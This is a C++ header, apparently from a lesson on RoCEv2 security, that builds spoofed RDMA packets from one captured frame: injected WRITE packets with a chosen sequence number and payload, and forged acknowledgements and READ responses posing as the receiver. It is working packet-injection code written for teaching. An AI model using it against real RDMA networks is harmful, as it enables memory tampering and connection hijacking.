// Lesson 09, the attacker: packets derived from a captured one, with some fields changed. They
// contain what an attacker learns from a single frame. wire::encode() computes lengths and ICRC.
#pragma once

#include <algorithm>
#include <functional>
#include <utility>
#include <vector>

#include "sniffer.hpp"
#include "wire/encode.hpp"
#include "wire/packet.hpp"

namespace lesson09 {

using Frame = std::vector<std::byte>;

/// AETH syndromes (IBTA volume 1, 9.7.5.2).
namespace syndrome {
inline constexpr std::uint8_t ack = 0x1f;  ///< without end-to-end flow control
inline constexpr std::uint8_t psn_sequence_error = 0x60;
inline constexpr std::uint8_t remote_access_error = 0x62;
}  // namespace syndrome

/// Returns the packet's source address as a RoCEv2 GID; all zeros without an IP header.
inline wire::Gid source_gid(const wire::Packet& packet) {
    if (packet.ipv6)
        return packet.ipv6->src;
    wire::Gid gid;
    if (packet.ipv4) {
        constexpr std::uint8_t mapped = 0xff;
        constexpr std::size_t address_at = wire::Gid::size - wire::Ipv4Address::size;
        gid.bytes[address_at - 2] = gid.bytes[address_at - 1] = mapped;
        std::ranges::copy(packet.ipv4->src.bytes, gid.bytes.begin() + address_at);
    }
    return gid;
}

/// Returns `seen` as changed by `edit`, with TTL or hop limit 1, so that no router forwards it.
inline Frame altered(const CapturedFrame& seen, const std::function<void(wire::Packet&)>& edit) {
    wire::Packet packet = seen.packet();
    if (packet.ipv4)
        packet.ipv4->ttl = 1;
    if (packet.ipv6)
        packet.ipv6->hop_limit = 1;
    edit(packet);
    return wire::encode(packet);
}

/// Returns a WRITE Only with this PSN and payload; the other fields are those of `write`.
inline Frame write_like(const CapturedFrame& write, wire::Psn psn, util::Bytes payload) {
    return altered(write, [&](wire::Packet& packet) {
        packet.bth->psn = psn;
        packet.reth->dmalen = static_cast<std::uint32_t>(payload.size());
        packet.payload = payload;
    });
}

/// Returns a response that seems to come from the receiver of `request`. An RC packet does not
/// contain the sender's QPN: `dest_qpn` must be known from elsewhere.
inline Frame response(const CapturedFrame& request, std::uint32_t dest_qpn, wire::Psn psn,
                      std::uint8_t opcode, std::uint8_t syndrome, util::Bytes payload) {
    return altered(request, [&](wire::Packet& packet) {
        if (packet.ethernet)
            std::swap(packet.ethernet->src, packet.ethernet->dst);
        if (packet.ipv4)
            std::swap(packet.ipv4->src, packet.ipv4->dst);
        if (packet.ipv6)
            std::swap(packet.ipv6->src, packet.ipv6->dst);
        packet.bth->opcode = opcode;
        packet.bth->dest_qpn = dest_qpn;
        packet.bth->psn = psn;
        packet.bth->a = false;
        packet.aeth = wire::Aeth{.syndrome = syndrome, .msn = 1};
        packet.payload = payload;
    });
}

/// Returns an Acknowledge with this syndrome.
inline Frame acknowledge_of(const CapturedFrame& request, std::uint32_t dest_qpn, wire::Psn psn,
                            std::uint8_t syndrome) {
    constexpr std::uint8_t rc_acknowledge = 0x11;
    return response(request, dest_qpn, psn, rc_acknowledge, syndrome, {});
}

/// Returns a READ response Only with `payload`.
inline Frame read_response_of(const CapturedFrame& request, std::uint32_t dest_qpn, wire::Psn psn,
                              util::Bytes payload) {
    constexpr std::uint8_t rc_read_response_only = 0x10;
    return response(request, dest_qpn, psn, rc_read_response_only, syndrome::ack, payload);
}

}  // namespace lesson09
